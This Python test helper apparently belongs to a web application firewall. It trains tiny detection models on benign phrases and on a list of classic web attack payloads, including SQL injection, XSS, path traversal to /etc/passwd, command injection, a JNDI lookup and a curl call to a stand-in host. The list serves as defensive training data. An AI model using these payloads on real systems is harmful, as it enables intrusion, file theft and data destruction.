"""Small field models for tests: trained in about a second on a few texts, or built by hand.

    tiny(benign, attack)       a FieldModel fitted on these texts (as query values, and JSON and header values)
    attack_model()             tiny() on classic attacks against everyday words
    constant_model(p)          every request scores probability p (all weights 0)
    save(fm, directory, ...)   write <name>.npz and its card (sha256, version, operating point, threshold)

Import from a test module as `import models` (pytest puts tests/ on sys.path).
"""

from __future__ import annotations

import json
import math
from pathlib import Path

import numpy as np

from addons import fieldmodel, learn, model
from addons import fields as fieldsmod

BITS = 14  # small and fast; the shipped model has fieldmodel.BITS

BENIGN = (
    "hello world", "blue running shoes", "page 2", "the quick brown fox", "new york pizza", "42", "en-US",
    "summer sale", "john smith", "contact us", "how to bake bread", "red", "2024-05-01", "price asc",
    "select a size", "union station", "drop shipping", "order history", "script writing class", "alert settings",
    "Mozilla/5.0 (X11; Linux x86_64) Firefox/125.0", "text/html,application/xhtml+xml", "gzip, deflate, br",
)
ATTACKS = (
    "' or 1=1--", "1 union select username,password from users--", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "../../../../etc/passwd", "; cat /etc/passwd", "| id",
    "' and sleep(5)--", "admin'--", "\" onmouseover=\"alert(1)", "${jndi:ldap://x.example/a}",
    "javascript:alert(document.cookie)", "1; drop table users--", "../../windows/win.ini", "`id`",
    "<svg onload=alert(1)>", "' or 'a'='a", "1' order by 3--", "$(curl x.example)", "{{7*7}}",
)


def tiny(benign=BENIGN, attack=ATTACKS, bits: int = BITS, c: float = 20.0) -> fieldmodel.FieldModel:
    """A FieldModel fitted on these texts, each placed as a query value, a JSON value and a header."""
    table = learn.Table()
    for texts, is_attack in ((benign, False), (attack, True)):
        for t in texts:
            table.add_fields([fieldsmod.Field("query", "q", t), fieldsmod.Field("json", "q", t),
                              fieldsmod.Field("header", "x-h", t)], attack=is_attack)
    return learn.fit(table, bits, c, max_iter=500)


_ATTACK_MODEL: fieldmodel.FieldModel | None = None


def attack_model() -> fieldmodel.FieldModel:
    """tiny() on the classic attacks against everyday words (fitted once per test process)."""
    global _ATTACK_MODEL
    if _ATTACK_MODEL is None:
        _ATTACK_MODEL = tiny()
    return _ATTACK_MODEL


def constant_model(p: float, bits: int = 8) -> fieldmodel.FieldModel:
    """Every window scores probability p: all weights 0, the intercept logit(p)."""
    return fieldmodel.FieldModel(np.zeros(2 << bits, np.float32), np.zeros(fieldmodel.EXTRA, np.float32),
                                 math.log(p / (1 - p)), bits)


def save(fm: fieldmodel.FieldModel, directory: Path, name: str = "openflare-local", version: str = "test",
         operating_point: float = 0.5, threshold: int | None = None, **card) -> Path:
    """Write <directory>/<name>.npz and its card; returns the .npz path (for openflare_model)."""
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / (name + model.MODEL_SUFFIX)
    fm.save(path)
    card = {"version": version, "operating_point": operating_point, **card}
    if threshold is not None:
        card["threshold"] = threshold
    model.write_card(path, card)
    return path


def load(path: Path) -> model.LocalModel:
    return model.load(str(path))


def card_of(path: Path) -> dict:
    return json.loads(model.card_path(Path(path)).read_text())
